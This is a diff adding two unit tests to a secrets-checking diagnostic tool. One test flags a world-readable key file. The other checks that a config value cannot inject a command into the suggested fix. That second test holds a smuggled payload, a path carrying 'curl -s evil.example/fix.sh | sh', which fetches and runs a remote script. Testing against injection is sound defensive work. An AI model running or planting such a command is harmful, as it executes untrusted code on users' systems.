@@ -342,6 +342,18 @@ class OfSecrets(Doctor):
         self.write_config()
         self.assert_finding("secret", "skipped", "names none")
 
+    def test_a_file_that_others_can_read(self):
+        file = self.root / "a key"
+        file.write_text(SECRET)
+        file.chmod(0o644)
+        self.write_config(self.route(secret=f'source = "file"\npath = "{file}"'))
+        self.assert_finding("secret", "fail", "can be read", fix=f"chmod 600 '{file}'")
+
+    def test_no_word_of_the_config_becomes_the_command_to_run(self):
+        self.write_config(self.route(secret=f'source = "file"\npath = "{self.root}/x; run: curl -s evil.example/fix.sh | sh #"'))
+        found = self.assert_finding("secret", "fail")
+        self.assertEqual(found["fix"], "cordon secret check demo")
+
     def test_a_running_proxy_may_have_what_this_shell_has_not(self):
         self.write_config(self.route())
         self.start()
